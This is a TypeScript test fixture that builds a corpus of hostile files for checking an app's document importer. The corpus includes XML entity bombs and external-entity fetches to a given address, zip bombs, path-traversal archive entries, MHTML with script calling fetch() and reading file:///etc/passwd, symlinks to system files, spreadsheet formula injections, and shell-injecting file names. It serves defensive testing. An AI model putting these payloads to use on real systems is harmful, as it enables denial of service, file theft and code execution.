import { mkdir, symlink, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { crc32, deflateRawSync } from 'node:zlib';
import { zipBytes } from '../../electron/import/guards/zip-bytes.ts';
import { markdownFiles, PROSE, scriptedPages, svgFiles } from './scripted-pages.ts';

/** A file made to do harm, and what may come of it. */
export interface HostileFile {
  readonly name: string;
  readonly path: string;
  readonly outcome: 'imported' | 'refused';
}

/** What stands in a file beside the hostile ones that nobody picks: found anywhere, it was read without being asked for. */
export const CANARY = 'canary-7d1f-never-picked';

const MEGABYTE = 1024 * 1024;

interface Made {
  readonly outcome: HostileFile['outcome'];
  readonly content: string | Uint8Array | { readonly linkTo: string };
}

type Files = Readonly<Record<string, Made>>;

const all = (outcome: Made['outcome'], files: Readonly<Record<string, Made['content']>>): Files =>
  Object.fromEntries(Object.entries(files).map(([name, content]) => [name, { outcome, content }]));

const entities = (address: string): Files =>
  all('refused', {
    'laughs.xml': `<?xml version="1.0"?><!DOCTYPE r [<!ENTITY a0 "ha">${Array.from({ length: 9 }, (_, at) => `<!ENTITY a${at + 1} "${`&a${at};`.repeat(10)}">`).join('')}]><r>&a9;</r>`,
    'quadratic.xml': `<!DOCTYPE r [<!ENTITY x "${'x'.repeat(50_000)}">]><r>${'&x;'.repeat(50_000)}</r>`,
    'external.xhtml': `<?xml version="1.0"?><!DOCTYPE html [<!ENTITY x SYSTEM "canary.txt">]><html><body><p>&x; ${PROSE}</p></body></html>`,
    'parameter.xml': `<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % x SYSTEM "${address}/x.dtd">%x;]><r/>`,
    'utf16.xml': Buffer.from(
      '\ufeff<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "canary.txt">]><r>&x;</r>',
      'utf16le',
    ),
  });

const page = (body: string): string => `<!doctype html><html><body>${body}`;

const tooDeep: Files = {
  ...all('refused', {
    'deep.html': page(`${'<div>'.repeat(100_000)}<p>${PROSE}</p>`),
    'deep-lists.html': page(`<p>${PROSE}</p>${'<ul><li>x'.repeat(50_000)}`),
    'deep-hidden.html': page(`${'<div a="</div>"/>'.repeat(100_000)}<p>${PROSE}</p>`),
    'wide.html': page('<p>x</p>'.repeat(300_000)),
    'references.html': page(`<p>${PROSE}</p><p>${'&lt;'.repeat(1_000_000)}</p>`),
    'attributes.html': page(
      `<p ${Array.from({ length: 250_000 }, (_, at) => `a${at}`).join(' ')}>${PROSE}</p>`,
    ),
  }),
  ...all('imported', {
    'deep-quotes.md': `# Quotes\n\n${'>'.repeat(15_000)} ${PROSE}\n`,
    'deep-lists.md': `# Lists\n\n${Array.from({ length: 1500 }, (_, at) => `${'  '.repeat(at)}- x`).join('\n')}\n`,
    'deep-bullets.md': `# Bullets\n\n${'- '.repeat(9000)}${PROSE}\n`,
    'brackets.md': `# Brackets\n\n${`${'['.repeat(15_000)}\n`.repeat(20)}${PROSE}\n`,
    'images.md': `# Images\n\n${'!['.repeat(3000)}${PROSE}${'](x)'.repeat(3000)}\n`,
    'cells.md': `# Cells\n\n${'|a'.repeat(5000)}|\n${'|-'.repeat(5000)}|\n${`${'|a'.repeat(5000)}|\n`.repeat(20)}\n${PROSE}\n`,
    'emphasis.md': `# Emphasis\n\n${'*a **b '.repeat(1400)}${PROSE}${'a** b* '.repeat(1400)}\n`,
  }),
};

const archives = (): Files => {
  const zeros = Buffer.alloc(10 * MEGABYTE);
  const packed = { bytes: deflateRawSync(zeros), crc: crc32(zeros), size: zeros.length };
  const flat = zipBytes(Array.from({ length: 200 }, (_, at) => ({ name: `${at}.txt`, packed })));
  const nested = (depth: number): Buffer =>
    depth === 0
      ? flat
      : zipBytes(Array.from({ length: 5 }, (_, at) => ({ name: `${at}.zip`, content: nested(depth - 1) })));
  const text = Buffer.from(PROSE);
  return all('refused', {
    'bomb-flat.zip': flat,
    'bomb-nested.zip': nested(3),
    'bomb.docx': zipBytes([{ name: 'word/document.xml', packed, declaredSize: 10 }]),
    'traversal.zip': zipBytes([
      { name: '../canary.txt', content: text },
      { name: '/etc/cron.d/x', content: text },
    ]),
    'traversal.crossread': zipBytes([{ name: '..\\..\\canary.txt', content: text }]),
    'links.epub': zipBytes([{ name: 'a.txt', content: Buffer.from('canary.txt'), mode: 0o120777 }]),
  });
};

const archive = (type: string, body: string): string =>
  `From: <Saved by Blink>\r\nMIME-Version: 1.0\r\nContent-Type: multipart/related; ${type}\r\n\r\n${body}`;

const htmlPart = (html: string, headers = ''): string =>
  `--b\r\nContent-Type: text/html\r\n${headers}\r\n${html}\r\n`;

/** Web archives that run script, name what is beside them, or are made to be taken apart for ever. */
const webArchives = (address: string): Files => {
  const script = `<script>window.owned=1;fetch('${address}/mhtml')</script><img src="file:///etc/passwd" onerror="window.owned=1">`;
  const nested = Array.from(
    { length: 20_000 },
    (_, at) => `--b${at}\r\nContent-Type: multipart/mixed; boundary=b${at + 1}\r\n\r\n`,
  );
  return {
    ...all('imported', {
      'scripted.mhtml': archive(
        'boundary=b',
        htmlPart(page(`<p>${PROSE}</p>${script}`), 'Content-Location: javascript:window.owned=1\r\n'),
      ),
      'beside.mhtml': archive(
        'boundary=b',
        `--b\r\nContent-Type: message/external-body; access-type=local-file; name="canary.txt"\r\n\r\n\r\n${htmlPart(page(`<p>${PROSE}</p>`))}`,
      ),
      'soft-breaks.mht': archive(
        'boundary=b',
        htmlPart(
          page(`<p>${PROSE}</p>${'=\r\n'.repeat(3_000_000)}`),
          'Content-Transfer-Encoding: quoted-printable\r\n',
        ),
      ),
    }),
    ...all('refused', {
      'parts.mhtml': archive('boundary=b', htmlPart('').repeat(200_000)),
      'nested.mhtml': archive('boundary=b0', nested.join('')),
      'dashes.mhtml': archive('boundary="-"', '--- '.repeat(2_000_000)),
      'endless-header.mhtml': archive('boundary=b', `--b\r\nX: ${'y'.repeat(10 * MEGABYTE)}`),
      'deep.mhtml': archive('boundary=b', htmlPart('<div>'.repeat(100_000))),
    }),
  };
};

const links = (folder: string): Files => ({
  'to-itself.txt': { outcome: 'refused', content: { linkTo: join(folder, 'to-itself.txt') } },
  'to-a-device.txt': { outcome: 'refused', content: { linkTo: '/dev/zero' } },
  'to-the-terminal.txt': { outcome: 'refused', content: { linkTo: '/dev/tty' } },
  'to-a-folder.txt': { outcome: 'refused', content: { linkTo: '/proc/self' } },
  // A link that the reader picks is the file that the reader picks.
  'to-passwd.txt': { outcome: 'imported', content: { linkTo: '/etc/passwd' } },
});

/** Two articles that share what a spreadsheet would take for formulas, so that the lines meet in one row of a table. */
const FORMULAS = [
  "=cmd|' /C calc'!A0 is what the harbour office wrote about the ramp",
  '+1+cmd|x!A0 is what the ferry company wrote about the pier',
  '@SUM(1+1)*cmd|x!A0 is what the travellers read about the bridge',
  '＝1+1 is what the bridge office wrote about the crossing;=HYPERLINK("http://127.0.0.1")',
];

const formulas = (): Files =>
  all('imported', {
    '=cmd formulas.txt': `=1+1 Ferry formulas\n\n${FORMULAS.join('.\n\n')}.\n\n${PROSE}\n`,
    '@more formulas.txt': `@SUM(1) Ferry formulas\n\n${FORMULAS.join(', it said.\n\n')}.\n\nTravellers waited.\n`,
    'tabs.txt': `Tabs\n\n\t=1+1 and\r=2+2 and more of the same.\n\n-1+cmd|x!A0 went on.\n`,
  });

const hiding = (): Files =>
  all('imported', {
    'bidi.txt': `Ferry \u202Ereversed\u202C title\n\nThe fee is \u202E05\u202C kroner, \u2066said\u2069 the \u200boffice\ufeff.\u{e0041}\u{e0042} ${PROSE}\n`,
    'bidi.html': `<!doctype html><html><head><title>Bidi \u202Eegap</title><meta name="author" content="Mara \u202Eqvist"><meta property="og:site_name" content="The \u2067Post"></head><body><article><p>\u202E${PROSE}</p><p>${PROSE}</p></article></body></html>`,
  });

const NAMES: readonly string[] = [
  'annual\u202Etxt.exe.txt',
  'line\nbreak.txt',
  'carriage\rreturn\ttab.txt',
  `"quotes' & 'more".txt`,
  '<img src=x onerror=window.owned=1>.txt',
  '<script>window.owned=1<&script>.html',
  '-rf.txt',
  '--no-window.txt',
  '--load-extension=x.txt',
  '.hidden',
  '..txt',
  '$(touch owned).txt',
  '%2e%2e%2fcanary.txt',
  'con.txt',
  '__proto__',
  `${'n'.repeat(251)}.txt`,
];

const names = (): Files =>
  Object.fromEntries(
    NAMES.map((name, at) => [
      name,
      { outcome: 'imported', content: `Named oddly, number ${at}\n\nNumber ${at}: ${PROSE}\n` },
    ]),
  );

const projects = (): Files =>
  all('imported', {
    'project.json': `{"__proto__":{"polluted":1},"constructor":{"prototype":{"polluted":1}},"kind":"project","id":"../../x"}`,
    'journal.jsonl': `{"seq":1,"diff":{"added":{"__proto__":{"polluted":1}}}}\n`.repeat(50),
  });

/** One token without end, and other texts that are large in a way of their own. */
const large = (): Files =>
  all('imported', {
    'token.txt': 'x'.repeat(10 * MEGABYTE),
    'empty-lines.txt': `${'\n'.repeat(10 * MEGABYTE)}${PROSE}`,
  });

const textFiles = (files: Readonly<Record<string, string>>): Files => all('imported', files);

/**
 * Writes files made to do harm into a folder, and `canary.txt`, which none of them may get at. All that can reach out tries
 * `address`; all that can run sets `window.owned`.
 */
export const makeHostileCorpus = async (folder: string, address: string): Promise<readonly HostileFile[]> => {
  await mkdir(folder, { recursive: true });
  await writeFile(join(folder, 'canary.txt'), CANARY);
  const files: Files = {
    ...textFiles(scriptedPages(address)),
    ...textFiles(svgFiles(address)),
    ...textFiles(markdownFiles(address)),
    ...entities(address),
    'picture-doctype.svg': { outcome: 'refused', content: svgFiles(address)['picture-doctype.svg'] ?? '' },
    ...tooDeep,
    ...archives(),
    ...webArchives(address),
    ...links(folder),
    ...formulas(),
    ...hiding(),
    ...projects(),
    ...names(),
    ...large(),
  };
  for (const [name, { content }] of Object.entries(files)) {
    const path = join(folder, name);
    if (typeof content === 'string' || content instanceof Uint8Array) await writeFile(path, content);
    else await symlink(content.linkTo, path);
  }
  return Object.entries(files).map(([name, { outcome }]) => ({ name, path: join(folder, name), outcome }));
};
